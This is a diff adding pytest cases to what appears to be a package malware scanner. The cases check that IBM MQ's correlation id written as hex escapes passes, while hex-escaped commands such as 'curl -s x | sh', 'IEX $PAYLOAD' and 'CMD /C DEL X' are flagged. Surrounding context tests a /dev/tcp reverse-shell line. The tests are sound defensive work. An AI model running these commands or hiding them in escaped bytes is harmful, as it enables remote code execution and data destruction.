@@ -58,3 +58,30 @@ def test_a_shell_reading_from_dev_tcp_is_still_a_reverse_shell(tmp_path, line):
     code = NETWORK_CHECK.replace("exec 3<> /dev/tcp/example.invalid/443", line)
     files = {"pkg/__init__.py": "from pkg.base import network_connected\n", "pkg/base.py": code}
     assert_high_with(line, scan(files, tmp_path), {"chain.reverse_shell"})
+
+
+# ---------------------------------------------------------------- a protocol's id as escapes
+# pymqi's constants spell IBM MQ's correlation id as the bytes it is on the wire:
+# b"\x41\x4D\x51\x21..." reads 'AMQ!NEW_SESSION_CORRELID'. Capitals with ! and _ make no
+# command, path, address or code; the same escapes spelling a command stay a disguise.
+def _escaped(text: str) -> str:
+    return "".join(f"\\x{ord(c):02X}" for c in text)
+
+
+def test_a_protocol_identifier_written_as_escaped_bytes_is_no_disguise(tmp_path):
+    constants = (
+        "MQCI_NONE = b'\\0\\0\\0\\0'\n"
+        f'MQCI_NEW_SESSION = b"{_escaped("AMQ!NEW_")}"\\\n'
+        f'                   b"{_escaped("SESSION_")}"\n'
+    )
+    result = scan({"pkg/__init__.py": "X = 1\n", "pkg/CMQC.py": constants}, tmp_path)
+    assert not [f for f in result.findings if f.rule == "txt.escaped_text"]
+    assert result.risk.level not in HIGH
+
+
+@pytest.mark.parametrize("hidden", ["CMD /C DEL X", "IEX $PAYLOAD", "curl -s x | sh"])
+def test_a_command_written_as_escaped_bytes_is_still_a_disguise(tmp_path, hidden):
+    code = f'CMD = b"{_escaped(hidden)}"\n'
+    result = scan({"pkg/__init__.py": "X = 1\n", "pkg/run.py": code}, tmp_path)
+    assert [f for f in result.findings if f.rule == "txt.escaped_text" and f.severity in HIGH]
+    assert_high_with(hidden, result, {"disguise.obfuscation"})
